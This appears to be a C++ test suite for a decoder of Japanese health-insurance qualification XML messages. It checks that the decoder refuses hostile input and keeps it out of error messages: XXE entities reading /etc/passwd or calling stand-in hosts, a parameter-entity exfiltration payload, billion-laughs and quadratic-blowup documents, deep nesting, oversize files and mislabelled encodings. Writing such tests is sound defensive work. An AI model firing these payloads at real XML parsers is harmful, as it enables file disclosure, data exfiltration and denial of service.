// Hostile and broken input (reliability.md A2, A4-A7, A9), sized for CI: DTD/entity attacks,
// nesting depth under a small stack, the size cap, encodings, error texts that never carry input,
// and the same bytes decoded through different buffers.

#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>
#include <fstream>
#include <functional>
#include <string>
#include <thread>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "adapters/oqs_files/codec.h"
#include "adapters/oqs_files/encoding.h"
#include "gmock/gmock.h"
#include "google/protobuf/util/message_differencer.h"
#include "gtest/gtest.h"
#include "plugin/core/errors.h"
#include "tests/unit/oqs_files/test_util.h"

namespace onshi::oqs {
namespace {

using ::google::protobuf::util::MessageDifferencer;
using ::onshi::oqs::testing_util::Golden;
using ::onshi::oqs::testing_util::ReadFileOrDie;
using ::onshi::oqs::testing_util::ReplaceOnce;
using ::onshi::oqs::testing_util::VisibleText;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr absl::string_view kDecl =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n";

std::string Reason(const absl::Status& status) { return std::string(ReasonOf(status)); }

std::string ToCp932(absl::string_view utf8) {
  Cp932Converter converter;
  std::string out;
  size_t offset = 0;
  EXPECT_EQ(converter.FromUtf8(utf8, false, &out, &offset), Cp932Converter::Result::kOk);
  return out;
}

// Runs `body` on a thread with a 256 KiB stack: a recursive parser would overflow it.
void RunWithSmallStack(std::function<void()> body) {
  pthread_attr_t attr;
  ASSERT_EQ(pthread_attr_init(&attr), 0);
  ASSERT_EQ(pthread_attr_setstacksize(&attr, 256 * 1024), 0);
  pthread_t thread;
  auto trampoline = [](void* arg) -> void* {
    (*static_cast<std::function<void()>*>(arg))();
    return nullptr;
  };
  ASSERT_EQ(pthread_create(&thread, &attr, trampoline, &body), 0);
  ASSERT_EQ(pthread_join(thread, nullptr), 0);
  pthread_attr_destroy(&attr);
}

// A file outside the input whose content must never show up anywhere.
class CanaryFile {
 public:
  CanaryFile() {
    path_ = absl::StrCat(::testing::TempDir(), "/onshi_xxe_canary_", getpid(), ".txt");
    std::ofstream(path_) << kContent;
  }
  ~CanaryFile() { std::remove(path_.c_str()); }
  const std::string& path() const { return path_; }
  static constexpr absl::string_view kContent = "XXE-CANARY-FILE-CONTENT-5531";

 private:
  std::string path_;
};

// ---------------------------------------------------------------------------------------------
// A4: the attack corpus.

struct Attack {
  std::string name;
  std::string document;
  // Expected reason; empty = decodes (the construct is inert) with ArbitraryFileIdentifier "safe".
  std::string reason;
};

std::string Body(absl::string_view header_value) {
  return absl::StrCat("<XmlMsg><MessageHeader><ArbitraryFileIdentifier>", header_value,
                      "</ArbitraryFileIdentifier></MessageHeader></XmlMsg>\n");
}

std::vector<Attack> AttackCorpus(const std::string& canary_path) {
  const std::string doctype = "ONSHI_DOCUMENT_DOCTYPE";
  const std::string malformed = "ONSHI_DOCUMENT_MALFORMED";
  std::string quadratic_entity(100 * 1024, 'a');
  std::string quadratic_refs;
  for (int i = 0; i < 10000; ++i) quadratic_refs += "&a;";
  std::string laughs = "<!DOCTYPE XmlMsg [<!ENTITY lol0 \"lol\">";
  for (int i = 1; i <= 9; ++i) {
    laughs += absl::StrCat("<!ENTITY lol", i, " \"");
    for (int j = 0; j < 10; ++j) absl::StrAppend(&laughs, "&lol", i - 1, ";");
    laughs += "\">";
  }
  laughs += "]>\n";
  std::vector<Attack> corpus = {
      {"XxeFileEtcPasswd",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
                    Body("&xxe;")),
       doctype},
      {"XxeFileCanary",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ENTITY xxe SYSTEM \"file://", canary_path,
                    "\">]>\n", Body("&xxe;")),
       doctype},
      {"XxeHttpLoopback",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ENTITY xxe SYSTEM \"http://127.0.0.1:9/x\">]>\n",
                    Body("&xxe;")),
       doctype},
      {"XxeHttpsRemote",
       absl::StrCat(kDecl,
                    "<!DOCTYPE XmlMsg [<!ENTITY xxe SYSTEM \"https://attacker.invalid/x\">]>\n",
                    Body("&xxe;")),
       doctype},
      {"XxePublicIdentifier",
       absl::StrCat(kDecl,
                    "<!DOCTYPE XmlMsg [<!ENTITY xxe PUBLIC \"-//A//B\" "
                    "\"http://127.0.0.1:9/x\">]>\n",
                    Body("&xxe;")),
       doctype},
      {"ParameterEntityRemoteDtd",
       absl::StrCat(kDecl,
                    "<!DOCTYPE XmlMsg [<!ENTITY % dtd SYSTEM \"http://127.0.0.1:9/evil.dtd\"> "
                    "%dtd;]>\n",
                    Body("safe")),
       doctype},
      {"ParameterEntityExfiltration",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ENTITY % file SYSTEM \"file://", canary_path,
                    "\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM "
                    "'http://127.0.0.1:9/?x=%file;'>\"> %eval; %exfil;]>\n",
                    Body("safe")),
       doctype},
      {"ExternalDtdHttp",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg SYSTEM \"http://127.0.0.1:9/oqs.dtd\">\n",
                    Body("safe")),
       doctype},
      {"ExternalDtdFile",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg SYSTEM \"file://", canary_path, "\">\n", Body("safe")),
       doctype},
      {"ExternalDtdPublic",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg PUBLIC \"-//OQS//DTD XmlMsg//JA\" \"oqs.dtd\">\n",
                    Body("safe")),
       doctype},
      {"BillionLaughs", absl::StrCat(kDecl, laughs, Body("&lol9;")), doctype},
      {"QuadraticBlowup",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ENTITY a \"", quadratic_entity, "\">]>\n",
                    Body(quadratic_refs)),
       doctype},
      {"InternalSubsetEmpty", absl::StrCat(kDecl, "<!DOCTYPE XmlMsg []>\n", Body("safe")), doctype},
      {"InternalSubsetElementDeclarations",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ELEMENT XmlMsg ANY>]>\n", Body("safe")), doctype},
      {"InternalSubsetPlainEntity",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ENTITY e \"safe\">]>\n", Body("&e;")), doctype},
      {"DoctypeWithoutSubset", absl::StrCat(kDecl, "<!DOCTYPE XmlMsg>\n", Body("safe")), doctype},
      {"LowercaseDoctype", absl::StrCat(kDecl, "<!doctype XmlMsg>\n", Body("safe")), doctype},
      {"MixedCaseDoctypeWithEntity",
       absl::StrCat(kDecl, "<!DocType XmlMsg [<!ENTITY e \"x\">]>\n", Body("&e;")), doctype},
      {"DoctypeAfterComment",
       absl::StrCat(kDecl, "<!-- harmless -->\n<!DOCTYPE XmlMsg [<!ENTITY e \"x\">]>\n",
                    Body("&e;")),
       doctype},
      {"DoctypeAfterProcessingInstruction",
       absl::StrCat(kDecl, "<?app hello?>\n<!DOCTYPE XmlMsg>\n", Body("safe")), doctype},
      {"DoctypeAfterRootElement", absl::StrCat(kDecl, Body("safe"), "<!DOCTYPE XmlMsg>\n"),
       doctype},
      {"DoctypeInsideRootElement",
       absl::StrCat(kDecl,
                    "<XmlMsg><!DOCTYPE XmlMsg [<!ENTITY e \"x\">]><MessageHeader/>"
                    "</XmlMsg>\n"),
       doctype},
      {"DoctypeInShiftJisDocument",
       absl::StrCat("<?xml version=\"1.0\" encoding=\"Shift_JIS\" standalone=\"no\"?>\n",
                    "<!DOCTYPE XmlMsg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
                    Body("&xxe;")),
       doctype},
      {"DoctypeAfterUtf8Bom",
       absl::StrCat("\xEF\xBB\xBF", kDecl, "<!DOCTYPE XmlMsg>\n", Body("safe")), doctype},
      {"DoctypeWithoutXmlDeclaration",
       absl::StrCat("<!DOCTYPE XmlMsg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
                    Body("&xxe;")),
       doctype},
      {"DoctypeAfterBlankLines",
       absl::StrCat(kDecl, "\n\n \t\r\n<!DOCTYPE XmlMsg>\n", Body("safe")), doctype},
      {"DoctypeSplitOverLines",
       absl::StrCat(kDecl, "<!DOCTYPE\nXmlMsg\n[\n<!ENTITY e\n\"x\">\n]>\n", Body("&e;")), doctype},
      {"AttlistDefaultAttribute",
       absl::StrCat(kDecl,
                    "<!DOCTYPE XmlMsg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">"
                    "<!ATTLIST XmlMsg a CDATA \"&xxe;\">]>\n",
                    Body("safe")),
       doctype},
      {"EntityInAttributeValue",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
                    "<XmlMsg a=\"&xxe;\"><MessageHeader/></XmlMsg>\n"),
       doctype},
      {"RecursiveEntities",
       absl::StrCat(kDecl, "<!DOCTYPE XmlMsg [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>\n",
                    Body("&a;")),
       doctype},
      {"NotationAndUnparsedEntity",
       absl::StrCat(kDecl,
                    "<!DOCTYPE XmlMsg [<!NOTATION n SYSTEM \"x\">"
                    "<!ENTITY u SYSTEM \"http://127.0.0.1:9/u\" NDATA n>]>\n",
                    Body("safe")),
       doctype},
      {"DoctypeWithUnsupportedDeclaredEncoding",
       absl::StrCat("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n<!DOCTYPE XmlMsg>\n",
                    Body("safe")),
       doctype},
      {"UndefinedEntityWithoutDoctype", absl::StrCat(kDecl, Body("&foo;")), malformed},
      {"UndefinedEntityInUnknownElement",
       absl::StrCat(kDecl, "<XmlMsg><Unknown>&xxe;</Unknown><MessageHeader/></XmlMsg>\n"),
       malformed},
      {"UndefinedEntityInAttribute",
       absl::StrCat(kDecl, "<XmlMsg a=\"&xxe;\"><MessageHeader/></XmlMsg>\n"), malformed},
      {"ParameterEntityReferenceOutsideDtd", absl::StrCat(kDecl, Body("%xxe;&")), malformed},
      {"EntityDeclarationInsideBody",
       absl::StrCat(kDecl, "<XmlMsg><!ENTITY xxe SYSTEM \"file:///etc/passwd\"></XmlMsg>\n"),
       malformed},
      {"XIncludeElementIsAnUnknownElement",
       absl::StrCat(kDecl,
                    "<XmlMsg xmlns:xi=\"http://www.w3.org/2001/XInclude\"><MessageHeader>"
                    "<xi:include href=\"file://",
                    canary_path,
                    "\" parse=\"text\"/><ArbitraryFileIdentifier>safe</ArbitraryFileIdentifier>"
                    "</MessageHeader></XmlMsg>\n"),
       ""},
      {"XIncludeInsideAValueElement",
       absl::StrCat(kDecl,
                    "<XmlMsg><MessageHeader><ArbitraryFileIdentifier>safe</ArbitraryFileIdentifier>"
                    "<ErrorMessage><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                    "href=\"file://",
                    canary_path, "\" parse=\"text\"/></ErrorMessage></MessageHeader></XmlMsg>\n"),
       "ONSHI_DOCUMENT_INVALID_VALUE"},
      {"StylesheetProcessingInstruction",
       absl::StrCat(kDecl,
                    "<?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:9/x.xsl\"?>\n",
                    Body("safe")),
       ""},
      {"SchemaLocationAttribute",
       absl::StrCat(kDecl,
                    "<XmlMsg xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                    "xsi:schemaLocation=\"urn:x http://127.0.0.1:9/x.xsd\"><MessageHeader>"
                    "<ArbitraryFileIdentifier>safe</ArbitraryFileIdentifier></MessageHeader>"
                    "</XmlMsg>\n"),
       ""},
      {"DoctypeInsideCdataIsJustText",
       absl::StrCat(
           kDecl,
           "<XmlMsg><MessageHeader><ArbitraryFileIdentifier>safe</ArbitraryFileIdentifier>"
           "<ErrorMessage><![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
           "]]></ErrorMessage></MessageHeader></XmlMsg>\n"),
       ""},
  };
  return corpus;
}

class AttackCorpusTest : public ::testing::Test {
 protected:
  CanaryFile canary_;
};

TEST_F(AttackCorpusTest, EveryAttackIsRefusedOrInertAndNothingLeaks) {
  std::vector<Attack> corpus = AttackCorpus(canary_.path());
  ASSERT_GE(corpus.size(), 30u);
  for (const Attack& attack : corpus) {
    SCOPED_TRACE(attack.name);
    absl::StatusOr<v1::QualificationResult> result = DecodeQualificationResult(attack.document);
    if (attack.reason.empty()) {
      ASSERT_TRUE(result.ok()) << result.status();
      EXPECT_EQ(result->arbitrary_file_identifier(), "safe");
      EXPECT_THAT(result->DebugString(), Not(HasSubstr(CanaryFile::kContent)));
      continue;
    }
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(Reason(result.status()), attack.reason) << result.status();
    const std::string visible = VisibleText(result.status());
    for (absl::string_view leak :
         {absl::string_view("passwd"), absl::string_view("127.0.0.1"), absl::string_view("ENTITY"),
          absl::string_view("xxe"), absl::string_view(canary_.path()), CanaryFile::kContent}) {
      EXPECT_THAT(visible, Not(HasSubstr(std::string(leak))));
    }
  }
}

TEST_F(AttackCorpusTest, RequestDecoderRefusesTheSameCorpus) {
  for (const Attack& attack : AttackCorpus(canary_.path())) {
    if (attack.reason.empty() || attack.reason == "ONSHI_DOCUMENT_INVALID_VALUE") continue;
    SCOPED_TRACE(attack.name);
    absl::StatusOr<v1::QualificationRequestDocument> request =
        DecodeQualificationRequest(attack.document);
    ASSERT_FALSE(request.ok());
    EXPECT_EQ(Reason(request.status()), attack.reason);
  }
}

// ---------------------------------------------------------------------------------------------
// A5: nesting depth (cap 32), checked without recursion.

std::string NestedDocument(int depth) {
  // XmlMsg (1) / MessageBody (2) / unknown elements down to `depth`.
  std::string doc = absl::StrCat(kDecl, "<XmlMsg><MessageBody>");
  const int inner = depth - 2;
  doc.reserve(doc.size() + static_cast<size_t>(inner) * 9 + 64);
  for (int i = 0; i < inner; ++i) doc += "<a>";
  for (int i = 0; i < inner; ++i) doc += "</a>";
  doc += "</MessageBody></XmlMsg>\n";
  return doc;
}

TEST(DepthTest, ThirtyTwoLevelsAreAcceptedOnASmallStack) {
  RunWithSmallStack([] {
    absl::StatusOr<v1::QualificationResult> result = DecodeQualificationResult(NestedDocument(32));
    EXPECT_TRUE(result.ok()) << result.status();
  });
}

TEST(DepthTest, DeeperDocumentsAreRefusedOnASmallStackWithoutCrashing) {
  for (int depth : {33, 300, 10000, 100000}) {
    SCOPED_TRACE(depth);
    const std::string doc = NestedDocument(depth);
    RunWithSmallStack([&doc] {
      absl::StatusOr<v1::QualificationResult> result = DecodeQualificationResult(doc);
      ASSERT_FALSE(result.ok());
      EXPECT_EQ(Reason(result.status()), "ONSHI_DOCUMENT_TOO_DEEP");
      EXPECT_THAT(result.status().message(), HasSubstr("deeper than 32 levels"));
    });
  }
}

TEST(DepthTest, UnclosedDeepNestingIsMalformedOnASmallStack) {
  std::string doc = absl::StrCat(kDecl, "<XmlMsg>");
  for (int i = 0; i < 100000; ++i) doc += "<a>";
  doc += "</XmlMsg>";
  RunWithSmallStack([&doc] {
    EXPECT_EQ(Reason(DecodeQualificationResult(doc).status()), "ONSHI_DOCUMENT_MALFORMED");
  });
}

TEST(DepthTest, TheLimitIsConfigurable) {
  // The deepest value in §9.2 is XmlMsg/MessageBody/ResultList/ResultOf.../LimitApplication
  // CertificateRelatedInfo/LimitApplicationCertificateClassification: 6 levels.
  const std::string doc = Golden("siquc01res_basic.utf8.xml");
  DecodeLimits limits;
  limits.max_depth = 6;
  EXPECT_TRUE(DecodeQualificationResult(doc, limits).ok());
  limits.max_depth = 5;
  EXPECT_EQ(Reason(DecodeQualificationResult(doc, limits).status()), "ONSHI_DOCUMENT_TOO_DEEP");
}

// ---------------------------------------------------------------------------------------------
// A6: size.

// The basic result padded to exactly `size` bytes with a comment (or white space) after the root.
std::string PaddedTo(size_t size, bool comment) {
  std::string doc = Golden("siquc01res_basic.utf8.xml");
  const size_t overhead = comment ? 8 : 0;  // "<!--" "-->\n"
  EXPECT_GE(size, doc.size() + overhead);
  const size_t fill = size - doc.size() - overhead;
  if (comment) {
    doc += "<!--";
    doc.append(fill, 'x');
    doc += "-->\n";
  } else {
    doc.append(fill, ' ');
  }
  EXPECT_EQ(doc.size(), size);
  return doc;
}

TEST(SizeTest, EmptyAndOneByteDocumentsAreMalformed) {
  for (absl::string_view doc : {"", "<", " ", ">", "\n"}) {
    EXPECT_EQ(Reason(DecodeQualificationResult(doc).status()), "ONSHI_DOCUMENT_MALFORMED")
        << "[" << doc << "]";
  }
}

TEST(SizeTest, DocumentsUpToTheCapAreReadAndLargerOnesRefused) {
  const size_t cap = DecodeLimits().max_bytes;
  ASSERT_EQ(cap, size_t{8} << 20);
  EXPECT_TRUE(DecodeQualificationResult(PaddedTo(cap - 1, true)).ok());
  EXPECT_TRUE(DecodeQualificationResult(PaddedTo(cap - 1, false)).ok());
  EXPECT_TRUE(DecodeQualificationResult(PaddedTo(cap, true)).ok());
  absl::StatusOr<v1::QualificationResult> over = DecodeQualificationResult(PaddedTo(cap + 1, true));
  ASSERT_FALSE(over.ok());
  EXPECT_EQ(Reason(over.status()), "ONSHI_DOCUMENT_TOO_LARGE");
}

TEST(SizeTest, TheCapIsConfigurable) {
  const std::string doc = Golden("siquc01res_rich.utf8.xml");
  DecodeLimits limits;
  limits.max_bytes = doc.size();
  EXPECT_TRUE(DecodeQualificationResult(doc, limits).ok());
  limits.max_bytes = doc.size() - 1;
  EXPECT_EQ(Reason(DecodeQualificationResult(doc, limits).status()), "ONSHI_DOCUMENT_TOO_LARGE");
}

TEST(SizeTest, OneGibibyteIsRefusedWithoutTouchingItsPages) {
  const std::string path = absl::StrCat(::testing::TempDir(), "/onshi_sparse_", getpid());
  int fd = open(path.c_str(), O_RDWR | O_CREAT | O_TRUNC, 0600);
  ASSERT_GE(fd, 0);
  const size_t size = size_t{1} << 30;
  ASSERT_EQ(ftruncate(fd, static_cast<off_t>(size)), 0);  // sparse: no data blocks
  void* map = mmap(nullptr, size, PROT_READ, MAP_PRIVATE, fd, 0);
  ASSERT_NE(map, MAP_FAILED);
  absl::StatusOr<v1::QualificationResult> result =
      DecodeQualificationResult(absl::string_view(static_cast<const char*>(map), size));
  EXPECT_EQ(Reason(result.status()), "ONSHI_DOCUMENT_TOO_LARGE");
  // No page of the mapping was faulted in: the decoder never looked at the bytes.
  std::vector<unsigned char> resident(size / static_cast<size_t>(sysconf(_SC_PAGESIZE)));
  ASSERT_EQ(mincore(map, size, resident.data()), 0);
  size_t touched = 0;
  for (unsigned char page : resident) touched += page & 1;
  EXPECT_EQ(touched, 0u);
  munmap(map, size);
  close(fd);
  unlink(path.c_str());
}

// ---------------------------------------------------------------------------------------------
// A7: encodings.

std::string WithDeclaredEncoding(std::string doc, absl::string_view from, absl::string_view to) {
  return ReplaceOnce(std::move(doc), absl::StrCat("encoding=\"", from, "\""),
                     absl::StrCat("encoding=\"", to, "\""));
}

std::string WithCharacterCode(std::string doc, absl::string_view from, absl::string_view to) {
  return ReplaceOnce(std::move(doc), absl::StrCat("<CharacterCodeIdentifier>", from, "<"),
                     absl::StrCat("<CharacterCodeIdentifier>", to, "<"));
}

std::string WithoutDeclaration(const std::string& doc) { return doc.substr(doc.find("?>") + 3); }

TEST(EncodingTest, ShiftJisDeclaredButUtf8BytesIsRefused) {
  std::string utf8 = Golden("siquc01res_basic.utf8.xml");
  // Consistent header (CharacterCodeIdentifier 1), but the bytes are UTF-8.
  std::string doc = WithCharacterCode(WithDeclaredEncoding(utf8, "UTF-8", "Shift_JIS"), "0", "1");
  EXPECT_EQ(Reason(DecodeQualificationResult(doc).status()), "ONSHI_DOCUMENT_ENCODING");
  // And the request, which has no CharacterCodeIdentifier to help.
  std::string request =
      WithDeclaredEncoding(Golden("siquc01req_basic.utf8.xml"), "UTF-8", "Shift_JIS");
  EXPECT_EQ(Reason(DecodeQualificationRequest(request).status()), "ONSHI_DOCUMENT_ENCODING");
}

// UTF-8 bytes of many common names are also valid CP932 (佐藤 reads as 菴占陸, タロウ as
// 繧ｿ繝ｭ繧ｦ): converting alone would succeed and store mojibake, with a consistent header.
TEST(EncodingTest, Utf8BytesThatAreAlsoValidCp932AreNotReadAsMojibake) {
  v1::QualificationResult result;
  result.add_records()->set_name("佐藤");
  result.mutable_records(0)->set_name_kana("タロウ");
  absl::StatusOr<std::string> utf8 = EncodeQualificationResult(result, {Encoding::kUtf8});
  ASSERT_TRUE(utf8.ok());
  std::string doc = WithCharacterCode(WithDeclaredEncoding(*utf8, "UTF-8", "Shift_JIS"), "0", "1");
  {
    Cp932Converter converter;  // the premise: every byte sequence is CP932
    std::string converted;
    size_t offset = 0;
    ASSERT_EQ(converter.ToUtf8(doc, &converted, &offset), Cp932Converter::Result::kOk);
    ASSERT_THAT(converted, HasSubstr("菴占陸"));
  }
  absl::Status status = DecodeQualificationResult(doc).status();
  EXPECT_EQ(Reason(status), "ONSHI_DOCUMENT_ENCODING");
  EXPECT_THAT(status.message(), HasSubstr("its bytes are UTF-8"));
  // A request has no CharacterCodeIdentifier at all.
  v1::QualificationRequestDocument request;
  request.mutable_search_info()->mutable_identifiers()->set_insured_card_symbol("田中");
  absl::StatusOr<std::string> request_utf8 = EncodeQualificationRequest(request, {Encoding::kUtf8});
  ASSERT_TRUE(request_utf8.ok());
  EXPECT_EQ(
      Reason(DecodeQualificationRequest(WithDeclaredEncoding(*request_utf8, "UTF-8", "Shift_JIS"))
                 .status()),
      "ONSHI_DOCUMENT_ENCODING");
}

TEST(EncodingTest, Utf8DeclaredButShiftJisBytesIsRefused) {
  std::string sjis = Golden("siquc01res_basic.sjis.xml");
  std::string doc = WithCharacterCode(WithDeclaredEncoding(sjis, "Shift_JIS", "UTF-8"), "1", "0");
  absl::Status status = DecodeQualificationResult(doc).status();
  EXPECT_EQ(Reason(status), "ONSHI_DOCUMENT_ENCODING");
  EXPECT_THAT(status.message(), HasSubstr("byte offset"));
  std::string request =
      WithDeclaredEncoding(Golden("siquc01req_basic.sjis.xml"), "Shift_JIS", "UTF-8");
  EXPECT_EQ(Reason(DecodeQualificationRequest(request).status()), "ONSHI_DOCUMENT_ENCODING");
}

TEST(EncodingTest, CharacterCodeIdentifierContradictingTheDeclarationIsRefused) {
  EXPECT_EQ(Reason(DecodeQualificationResult(
                       WithCharacterCode(Golden("siquc01res_basic.utf8.xml"), "0", "1"))
                       .status()),
            "ONSHI_DOCUMENT_ENCODING");
  EXPECT_EQ(Reason(DecodeQualificationResult(
                       WithCharacterCode(Golden("siquc01res_face.sjis.xml"), "1", "0"))
                       .status()),
            "ONSHI_DOCUMENT_ENCODING");
}

TEST(EncodingTest, WithoutDeclarationCharacterCodeIdentifierChoosesTheEncoding) {
  absl::StatusOr<v1::QualificationResult> expected =
      DecodeQualificationResult(Golden("siquc01res_rich.utf8.xml"));
  ASSERT_TRUE(expected.ok());
  absl::StatusOr<v1::QualificationResult> sjis =
      DecodeQualificationResult(WithoutDeclaration(Golden("siquc01res_rich.sjis.xml")));
  ASSERT_TRUE(sjis.ok()) << sjis.status();
  EXPECT_EQ(sjis->character_code(), v1::CHARACTER_CODE_SHIFT_JIS);
  sjis->set_character_code(v1::CHARACTER_CODE_UTF8);
  EXPECT_TRUE(MessageDifferencer::Equals(*expected, *sjis));
  absl::StatusOr<v1::QualificationResult> utf8 =
      DecodeQualificationResult(WithoutDeclaration(Golden("siquc01res_rich.utf8.xml")));
  ASSERT_TRUE(utf8.ok()) << utf8.status();
  EXPECT_TRUE(MessageDifferencer::Equals(*expected, *utf8));
}

TEST(EncodingTest, WithoutDeclarationOrCharacterCodeTheBytesMustBeUtf8) {
  EXPECT_TRUE(
      DecodeQualificationRequest(WithoutDeclaration(Golden("siquc01req_basic.utf8.xml"))).ok());
  EXPECT_EQ(
      Reason(DecodeQualificationRequest(WithoutDeclaration(Golden("siquc01req_basic.sjis.xml")))
                 .status()),
      "ONSHI_DOCUMENT_ENCODING");
}

TEST(EncodingTest, CharacterCodeIdentifierOutsideTheHeaderCannotSteerTheDecoding) {
  // Undeclared UTF-8 document; a comment carries a fake Shift_JIS code ahead of the real one.
  std::string doc = WithoutDeclaration(Golden("siquc01res_basic.utf8.xml"));
  doc = absl::StrCat("<!-- <CharacterCodeIdentifier>1</CharacterCodeIdentifier> -->\n", doc);
  EXPECT_EQ(Reason(DecodeQualificationResult(doc).status()), "ONSHI_DOCUMENT_ENCODING");
  // Same with an ASCII-only document, where Shift_JIS decoding alone would not notice.
  std::string ascii = absl::StrCat(
      "<!-- <CharacterCodeIdentifier>1</CharacterCodeIdentifier> -->\n<XmlMsg><MessageHeader>"
      "<CharacterCodeIdentifier>0</CharacterCodeIdentifier></MessageHeader></XmlMsg>");
  EXPECT_EQ(Reason(DecodeQualificationResult(ascii).status()), "ONSHI_DOCUMENT_ENCODING");
  std::string missing =
      absl::StrCat("<!-- <CharacterCodeIdentifier>1</CharacterCodeIdentifier> -->\n<XmlMsg/>");
  EXPECT_EQ(Reason(DecodeQualificationResult(missing).status()), "ONSHI_DOCUMENT_ENCODING");
}

TEST(EncodingTest, InvalidShiftJisBytesAreRefusedWithTheirOffset) {
  const std::string sjis = Golden("siquc01res_basic.sjis.xml");
  const std::string name = ToCp932("<Name>試験　花子</Name>");
  for (absl::string_view bad :
       {absl::string_view("\x80"), absl::string_view("\xA0"), absl::string_view("\xFD"),
        absl::string_view("\xFF"), absl::string_view("\x85\x40"), absl::string_view("\x81\x20")}) {
    SCOPED_TRACE(absl::CHexEscape(bad));
    std::string broken = ToCp932(absl::StrCat("<Name>試験", "@@", "花子</Name>"));
    broken = absl::StrReplaceAll(broken, {{"@@", bad}});
    std::string doc = ReplaceOnce(sjis, name, broken);
    absl::Status status = DecodeQualificationResult(doc).status();
    EXPECT_EQ(Reason(status), "ONSHI_DOCUMENT_ENCODING");
    const size_t offset = doc.find(broken) + 10;  // "<Name>" + 試験 (4 bytes)
    EXPECT_THAT(status.message(), HasSubstr(absl::StrCat("byte offset ", offset, " ")));
  }
}

TEST(EncodingTest, MalformedUtf8IsRefused) {
  const std::string utf8 = Golden("siquc01res_basic.utf8.xml");
  for (absl::string_view bad :
       {absl::string_view("\xC0\xAF"), absl::string_view("\xC1\xBF"),
        absl::string_view("\xE0\x80\xAF"), absl::string_view("\xF0\x80\x80\xAF"),
        absl::string_view("\xED\xA0\x80"), absl::string_view("\xED\xBF\xBF"),
        absl::string_view("\xF4\x90\x80\x80"), absl::string_view("\xF5\x80\x80\x80"),
        absl::string_view("\x80"), absl::string_view("\xBF"), absl::string_view("\xE3\x81"),
        absl::string_view("\xFE"), absl::string_view("\xFF")}) {
    SCOPED_TRACE(absl::CHexEscape(bad));
    std::string doc = ReplaceOnce(utf8, "試験　花子</Name>", absl::StrCat("試", bad, "</Name>"));
    EXPECT_EQ(Reason(DecodeQualificationResult(doc).status()), "ONSHI_DOCUMENT_ENCODING");
  }
}

TEST(EncodingTest, NulBytesAreRefusedInEitherEncoding) {
  const std::string nul(1, '\0');
  for (const char* file : {"siquc01res_basic.utf8.xml", "siquc01res_basic.sjis.xml"}) {
    SCOPED_TRACE(file);
    std::string doc = Golden(file);
    EXPECT_EQ(
        Reason(DecodeQualificationResult(ReplaceOnce(doc, "4567", "45" + nul + "67")).status()),
        "ONSHI_DOCUMENT_ENCODING");
    EXPECT_EQ(Reason(DecodeQualificationResult(nul + doc).status()), "ONSHI_DOCUMENT_ENCODING");
    EXPECT_EQ(Reason(DecodeQualificationResult(doc + nul).status()), "ONSHI_DOCUMENT_ENCODING");
    EXPECT_EQ(
        Reason(
            DecodeQualificationResult(ReplaceOnce(doc, "</XmlMsg>", nul + "</XmlMsg>")).status()),
        "ONSHI_DOCUMENT_ENCODING");
  }
  EXPECT_EQ(Reason(DecodeQualificationResult(
                       ReplaceOnce(Golden("siquc01res_basic.utf8.xml"), "4567", "&#0;"))
                       .status()),
            "ONSHI_DOCUMENT_MALFORMED");
}

TEST(EncodingTest, ControlCharactersAndNonCharactersAreNotXml) {
  for (absl::string_view bad :
       {absl::string_view("\x01"), absl::string_view("\x1B"), absl::string_view("\x0C"),
        absl::string_view("\xEF\xBF\xBE"), absl::string_view("&#1;"), absl::string_view("&#xFFFE;"),
        absl::string_view("&#xD800;"), absl::string_view("&#x110000;")}) {
    SCOPED_TRACE(absl::CHexEscape(bad));
    std::string doc = ReplaceOnce(Golden("siquc01res_basic.utf8.xml"), "4567", bad);
    EXPECT_EQ(Reason(DecodeQualificationResult(doc).status()), "ONSHI_DOCUMENT_MALFORMED");
  }
}

TEST(EncodingTest, Utf8ByteOrderMarkIsAcceptedButNotWithShiftJis) {
  absl::StatusOr<v1::QualificationResult> plain =
      DecodeQualificationResult(Golden("siquc01res_basic.utf8.xml"));
  absl::StatusOr<v1::QualificationResult> bom =
      DecodeQualificationResult("\xEF\xBB\xBF" + Golden("siquc01res_basic.utf8.xml"));
  ASSERT_TRUE(bom.ok()) << bom.status();
  EXPECT_TRUE(MessageDifferencer::Equals(*plain, *bom));
  EXPECT_TRUE(DecodeQualificationResult("\xEF\xBB\xBF" +
                                        WithoutDeclaration(Golden("siquc01res_basic.utf8.xml")))
                  .ok());
  EXPECT_EQ(
      Reason(
          DecodeQualificationResult("\xEF\xBB\xBF" + Golden("siquc01res_basic.sjis.xml")).status()),
      "ONSHI_DOCUMENT_ENCODING");
  EXPECT_EQ(
      Reason(DecodeQualificationResult("\xFF\xFE" + Golden("siquc01res_basic.utf8.xml")).status()),
      "ONSHI_DOCUMENT_ENCODING");
